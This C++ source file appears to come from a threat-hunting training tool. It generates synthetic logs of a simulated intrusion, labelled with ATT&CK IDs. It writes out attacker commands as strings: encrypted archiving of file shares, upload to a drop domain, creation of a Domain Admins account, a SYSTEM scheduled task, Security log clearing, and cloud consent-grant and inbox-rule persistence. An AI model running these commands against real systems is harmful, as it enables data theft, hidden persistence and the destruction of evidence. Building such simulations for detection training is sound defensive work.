// What the intruder came for: the archive, the upload, a way back in, the traces, the cloud.
#include "scenario/cloud.h"
#include "scenario/desk.h"
#include "scenario/intrusion.h"
#include "scenario/powershell.h"

namespace huntbook::scenario {
namespace {

constexpr int kVolumes = 4;
constexpr uint64_t kVolumeBytes = 524'288'000;

std::string volume_path(const Plan& plan, int number) {
  std::string path = plan.archive + ".";
  append_padded(path, number, 3);
  return path;
}

/// A child of the PowerShell in the remote desktop session.
RunSpec from_desktop(const World& world, const Attack& attack, std::string_view image,
                     std::string_view command, Micros lifetime) {
  return RunSpec{.host = attack.plan.file_server,
                 .parent = &attack.desktop_shell,
                 .who = &world.company.admins[attack.plan.admin].identity,
                 .logon_id = attack.desktop_logon,
                 .image = image,
                 .command = command,
                 .lifetime = lifetime,
                 .elevated = true};
}

}  // namespace

void step_collection(World& world, Attack& attack, Micros t) {
  const Identity& thief = attack.admin(world).identity;
  Host& host = world.host(attack.plan.file_server);
  {
    Malice malice(world, Stage::kCollection, {"T1105", "T1036.005"},
                  "packer and uploader are put into a folder of a driver's name");
    Actor shell{host, attack.desktop_shell, thief};
    file_create(world, t, shell, attack.plan.tool_folder + "\\7z.exe");
    file_create(world, t + 2 * kSecond, shell, attack.plan.uploader);
  }
  Malice malice(world, Stage::kCollection, {"T1560.001", "T1005"},
                "finance and drawing folders are packed into an encrypted archive");
  std::string command = "7z.exe a -t7z -mhe=on -v500m -pQ7vT-41kz " + attack.plan.archive +
                        " D:\\Shares\\Finance D:\\Shares\\Engineering";
  std::string image = attack.plan.tool_folder + "\\7z.exe";
  Process packer =
      run_program(world, t + 50 * kSecond, from_desktop(world, attack, image, command, 26 * kMinute));
  for (int i = 1; i <= kVolumes; ++i)
    file_create(world, t + 50 * kSecond + (i - 1) * 6 * kMinute + 2 * kSecond, Actor{host, packer, thief},
                volume_path(attack.plan, i));
}

void step_exfiltration(World& world, Attack& attack, Micros t) {
  const Identity& thief = attack.admin(world).identity;
  Host& host = world.host(attack.plan.file_server);
  Malice malice(world, Stage::kExfiltration, {"T1048.003", "T1567.002"},
                "the volumes are uploaded with a renamed synchronising tool");
  std::string_view file = std::string_view(attack.plan.uploader).substr(attack.plan.tool_folder.size() + 1);
  std::string command = std::string(file) + " copy " + attack.plan.tool_folder +
                        " drop:in --include gfx-0312.7z.* --transfers 1 --config " + attack.plan.tool_folder +
                        "\\gfx.conf";
  Process tool = start_process(world, t,
                               StartSpec{.host = host.index,
                                         .parent = &attack.desktop_shell,
                                         .image = attack.plan.uploader,
                                         .command = command,
                                         .who = &thief,
                                         .logon_id = attack.desktop_logon,
                                         .lifetime = 46 * kMinute,
                                         .integrity = "High",
                                         .folder = attack.plan.tool_folder,
                                         .hash_salt = world.seed});
  resolve(world, t + kSecond, host, &tool, &thief, attack.plan.drop_domain, attack.plan.drop_address);
  Micros at = t + 2 * kSecond;
  for (int i = 1; i <= kVolumes; ++i) {
    uint64_t body = i < kVolumes ? kVolumeBytes : 211'407'112;
    ConnSpec spec{.from = &host,
                  .destination = attack.plan.drop_address,
                  .destination_name = attack.plan.drop_domain,
                  .port = 80,
                  .service = "http",
                  .duration = world.rng.between(560, 680) * kSecond,
                  .sent = body + 1'120,
                  .received = 96'400,
                  .process = &tool,
                  .who = &thief};
    Connection connection = connect(world, at, spec);
    std::string uri = "/dav/in/gfx-0312.7z.";
    append_padded(uri, i, 3);
    http_request(world, at + 20 * kMillisecond, spec, connection,
                 HttpSpec{.method = "PUT",
                          .host = attack.plan.drop_domain,
                          .uri = uri,
                          .agent = "gfxsync/1.62.2",
                          .status = 201,
                          .request_body = body,
                          .response_body = 0});
    at += spec.duration + world.rng.between(2, 9) * kSecond;
  }
}

void step_domain_persistence(World& world, Attack& attack, Micros t) {
  const Identity& thief = attack.admin(world).identity;
  Host& host = world.host(attack.plan.file_server);
  Host& controller = world.host(attack.plan.controller);
  Identity fresh = domain_identity(attack.plan.new_account, 7'777);
  constexpr std::string_view kNet = "C:\\Windows\\System32\\net.exe";
  {
    Malice malice(world, Stage::kPersistence, {"T1136.002"},
                  "a new domain account that looks like a service's");
    std::string command = "net user " + fresh.name + " Vn3-kkT0pz9 /add /domain";
    Process net = run_program(world, t, from_desktop(world, attack, kNet, command, 3 * kSecond));
    connect(world, t + 60 * kMillisecond,
            ConnSpec{.from = &host,
                     .destination = controller.address,
                     .destination_name = controller.fqdn,
                     .port = 445,
                     .service = "gssapi,smb,dce_rpc",
                     .duration = 1'200 * kMillisecond,
                     .sent = 4'410,
                     .received = 5'020,
                     .process = &net,
                     .who = &thief});
    uint64_t id = logon(world, t + 90 * kMillisecond,
                        LogonSpec{.host = controller.index,
                                  .who = &thief,
                                  .type = 3,
                                  .address = host.address,
                                  .port = host.next_port,
                                  .privileged = true,
                                  .lifetime = 30 * kSecond});
    account_event(world, t + 140 * kMillisecond, controller, 4720, thief, id, fresh);
    account_event(world, t + 145 * kMillisecond, controller, 4722, thief, id, fresh);
    account_event(world, t + 160 * kMillisecond, controller, 4738, thief, id, fresh);
  }
  {
    Malice malice(world, Stage::kPersistence, {"T1098"}, "the new account becomes a domain administrator");
    std::string command = "net group \"Domain Admins\" " + fresh.name + " /add /domain";
    Micros at = t + 40 * kSecond;
    run_program(world, at, from_desktop(world, attack, kNet, command, 3 * kSecond));
    uint64_t id = logon(world, at + 90 * kMillisecond,
                        LogonSpec{.host = controller.index,
                                  .who = &thief,
                                  .type = 3,
                                  .address = host.address,
                                  .port = host.next_port + 1,
                                  .privileged = true,
                                  .lifetime = 30 * kSecond});
    group_member_added(world, at + 150 * kMillisecond, controller, 4728, thief, id, fresh, "Domain Admins");
  }
  Malice malice(world, Stage::kPersistence, {"T1053.005"},
                "a scheduled task starts the uploader every night");
  Micros at = t + 130 * kSecond;
  std::string command = "schtasks /create /tn " + attack.plan.task + " /tr " + attack.plan.uploader +
                        " /sc daily /st 03:30 /ru SYSTEM /f";
  run_program(world, at,
              from_desktop(world, attack, "C:\\Windows\\System32\\schtasks.exe", command, 2 * kSecond));
  task_created(world, at + 200 * kMillisecond, host, thief, attack.desktop_logon, attack.plan.task,
               attack.plan.uploader);
}

void step_clean_up(World& world, Attack& attack, Micros t) {
  const Identity& thief = attack.admin(world).identity;
  Host& host = world.host(attack.plan.file_server);
  {
    Malice malice(world, Stage::kDefenseEvasion, {"T1070.004"}, "the archive is deleted");
    Actor shell{host, attack.desktop_shell, thief};
    script_block(world, t, shell, "Remove-Item " + attack.plan.archive + ".* -Force");
    for (int i = 1; i <= kVolumes; ++i)
      file_delete(world, t + 300 * kMillisecond + i * 40 * kMillisecond, shell, volume_path(attack.plan, i));
  }
  Malice malice(world, Stage::kDefenseEvasion, {"T1070.001"},
                "the security log of the file server is cleared");
  run_program(world, t + 90 * kSecond,
              from_desktop(world, attack, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security",
                           2 * kSecond));
  log_cleared(world, t + 90 * kSecond + 300 * kMillisecond, host, thief, attack.desktop_logon);
}

void step_cloud(World& world, Attack& attack, Micros t) {
  const User& thief = attack.admin(world);
  const User& victim = attack.victim(world);
  const Plan& plan = attack.plan;
  SigninSpec spec{.user = &thief,
                  .address = plan.foreign_address,
                  .place = Place{"Reykjavik", "Capital Region", "IS", "64.1466", "-21.9426"},
                  .app = &cloud_app(7),
                  .result = 50074,
                  .multi_factor = true,
                  .agent = "python-requests/2.31.0",
                  .system = "Linux",
                  .browser = "Python Requests 2.31",
                  .risk = "medium",
                  .managed = false};
  auto record = [&](Micros when, const char* what, std::string_view detail) {
    world.truth.add("cloud", {{"time", iso_text(when)},
                              {"what", what},
                              {"account", thief.upn},
                              {"source_address", plan.foreign_address},
                              {"detail", std::string(detail)}});
  };
  {
    Malice malice(world, Stage::kCloudPersistence, {"T1078.004"},
                  "sign-ins to the cloud with the stolen account from abroad");
    sign_in(world, t, spec);
    record(t, "sign-in refused: second factor needed", cloud_app(7).name);
    spec.result = 0;
    spec.multi_factor = false;
    spec.client = "Other clients";
    spec.risk = "high";
    spec.app = &cloud_app(1);
    sign_in(world, t + 4 * kMinute, spec);
    record(t + 4 * kMinute, "sign-in through a client without second factor", cloud_app(1).name);
    spec.app = &cloud_app(7);
    sign_in(world, t + 9 * kMinute, spec);
    record(t + 9 * kMinute, "sign-in", cloud_app(7).name);
  }
  AuditSpec audit{.by = &thief, .address = plan.foreign_address, .targets = {}, .details = {}};
  AuditTarget app{.type = "ServicePrincipal", .name = plan.app, .id = plan.app_id, .upn = "", .changes = {}};
  {
    Malice malice(world, Stage::kCloudPersistence, {"T1528"},
                  "consent for an application that may read all mail");
    audit.operation = "Consent to application";
    audit.category = "ApplicationManagement";
    audit.operation_type = "Assign";
    app.changes = {{"ConsentContext.IsAdminConsent", "\"True\""},
                   {"ConsentAction.Permissions", "[Scope: Mail.Read.All Files.Read.All offline_access]"}};
    audit.targets = {app};
    cloud_audit(world, t + 14 * kMinute, audit);
    record(t + 14 * kMinute, "Consent to application", plan.app);
  }
  {
    Malice malice(world, Stage::kCloudPersistence, {"T1098.001"},
                  "a secret of the intruder's own is added to the application");
    audit.operation = "Add service principal credentials";
    audit.operation_type = "Update";
    app.changes = {{"KeyDescription", "[KeyType=Password,KeyUsage=Verify,DisplayName=maint]"}};
    audit.targets = {app};
    cloud_audit(world, t + 16 * kMinute, audit);
    record(t + 16 * kMinute, "Add service principal credentials", plan.app);
  }
  {
    Malice malice(world, Stage::kCloudPersistence, {"T1098.003"}, "the application gets a directory role");
    audit.operation = "Add member to role";
    audit.category = "RoleManagement";
    audit.operation_type = "Assign";
    app.changes = {{"Role.DisplayName", "\"Privileged Authentication Administrator\""}};
    audit.targets = {app};
    cloud_audit(world, t + 19 * kMinute, audit);
    record(t + 19 * kMinute, "Add member to role", plan.app);
  }
  {
    Malice malice(world, Stage::kCloudPersistence, {"T1564.008"},
                  "an inbox rule hides answers in the victim's mailbox");
    audit.operation = "New-InboxRule";
    audit.category = "Mailbox";
    audit.operation_type = "Add";
    audit.service = "Exchange";
    audit.targets = {AuditTarget{.type = "Mailbox",
                                 .name = victim.display,
                                 .id = victim.object_id,
                                 .upn = victim.upn,
                                 .changes = {{"Name", ".."},
                                             {"SubjectContainsWords", "invoice;payment;fraud"},
                                             {"MoveToFolder", "RSS Feeds"}}}};
    cloud_audit(world, t + 25 * kMinute, audit);
    record(t + 25 * kMinute, "New-InboxRule", victim.upn);
  }
  Malice malice(world, Stage::kCloudPersistence, {"T1078.004"}, "later sign-ins over the weekend");
  spec.risk = "medium";
  for (Micros later : {at(12, 2, 41, 12), at(13, 3, 17, 55)}) {
    sign_in(world, later, spec);
    record(later, "sign-in", cloud_app(7).name);
  }
}

}  // namespace huntbook::scenario
